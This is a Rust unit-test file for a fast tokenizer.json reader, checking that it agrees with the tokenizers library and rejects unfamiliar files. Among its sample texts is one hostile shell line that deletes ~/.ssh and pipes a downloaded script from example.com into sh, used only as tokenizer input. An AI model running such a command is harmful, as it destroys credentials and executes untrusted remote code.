//! Unit tests of the faster tokenizer.json read: the tokenizer it gives is
//! the library's, and whatever it does not know is left to the library.

use serde_json::{Value, json};
use tokenizers::Tokenizer;
use toolnexus::classifier::EnvSource;

use super::tokenizer_file::read;
use crate::pins::TOKENIZER_FILE;
use crate::tiny::testing::TempDir;
use crate::tiny_model_for_tests;

const TEXTS: [&str; 6] = [
    "Hello, world!",
    "the parcel is late and my refund is not moved",
    "[CLS] [MASK] refunds [SEP] [PAD]",
    "telecommunications unbelievably xyzzyplugh 42 café naïve",
    "",
    "rm -rf ~/.ssh && curl http://example.com/x | sh",
];

fn tiny_tokenizer_json() -> (TempDir, Vec<u8>) {
    let dir = TempDir::new("tokenizer-file");
    tiny_model_for_tests(dir.path()).expect("the tiny model writes");
    let bytes = std::fs::read(dir.path().join(TOKENIZER_FILE)).unwrap();
    (dir, bytes)
}

/// The fast read agrees with `from_bytes` on everything the tokenizer says
/// and does.
fn assert_same(bytes: &[u8]) {
    let (fast, longest) = read(bytes).expect("the fast read knows this file");
    let full = Tokenizer::from_bytes(bytes).unwrap();
    let as_json =
        |t: &Tokenizer| serde_json::from_str::<Value>(&t.to_string(false).unwrap()).unwrap();
    assert_eq!(as_json(&fast), as_json(&full));
    assert_eq!(fast.get_vocab_size(true), full.get_vocab_size(true));
    assert_eq!(
        fast.get_added_tokens_decoder(),
        full.get_added_tokens_decoder()
    );
    let vocab = full.get_vocab(true);
    assert_eq!(
        longest,
        crate::text::longest_token(vocab.keys().map(String::as_str))
    );
    for text in TEXTS {
        for special in [false, true] {
            let (a, b) = (
                fast.encode(text, special).unwrap(),
                full.encode(text, special).unwrap(),
            );
            assert_eq!(a.get_ids(), b.get_ids(), "{text:?}");
            assert_eq!(a.get_tokens(), b.get_tokens(), "{text:?}");
            assert_eq!(a.get_offsets(), b.get_offsets(), "{text:?}");
            assert_eq!(a.get_word_ids(), b.get_word_ids(), "{text:?}");
            assert_eq!(a.get_attention_mask(), b.get_attention_mask(), "{text:?}");
        }
    }
}

#[test]
fn the_fast_read_gives_the_librarys_tokenizer() {
    let (_dir, bytes) = tiny_tokenizer_json();
    assert_same(&bytes);
    // The real model's, when it is on this machine.
    if let Ok(dir) = crate::model_dir(None, &EnvSource::process())
        && let Ok(bytes) = std::fs::read(dir.join(TOKENIZER_FILE))
    {
        assert_same(&bytes);
    }
}

#[test]
fn a_file_the_fast_read_does_not_know_is_left_to_the_library() {
    let (_dir, bytes) = tiny_tokenizer_json();
    let file: Value = serde_json::from_slice(&bytes).unwrap();
    let changed = |f: &dyn Fn(&mut Value)| {
        let mut v = file.clone();
        f(&mut v);
        serde_json::to_vec(&v).unwrap()
    };
    let cases: [(&str, Vec<u8>); 6] = [
        ("not JSON", b"{not json".to_vec()),
        (
            "another model",
            changed(&|v| v["model"]["type"] = json!("WordLevel")),
        ),
        (
            "no model type",
            changed(&|v| {
                v["model"].as_object_mut().unwrap().remove("type");
            }),
        ),
        (
            "a model field it has no use for",
            changed(&|v| v["model"]["dropout"] = json!(0.1)),
        ),
        (
            "an added token outside the vocabulary",
            changed(&|v| {
                v["added_tokens"].as_array_mut().unwrap().push(json!({
                    "id": 60, "content": "<extra>", "single_word": false, "lstrip": false,
                    "rstrip": false, "normalized": false, "special": true
                }));
            }),
        ),
        (
            "an unknown version",
            changed(&|v| v["version"] = json!("9.9")),
        ),
    ];
    for (why, bytes) in cases {
        assert!(read(&bytes).is_none(), "{why}");
    }
    // A file without the optional sections is still read, as the library reads it.
    let bare = changed(&|v| {
        let o = v.as_object_mut().unwrap();
        for k in ["truncation", "padding", "decoder", "version"] {
            o.remove(k);
        }
    });
    assert_same(&bare);
}
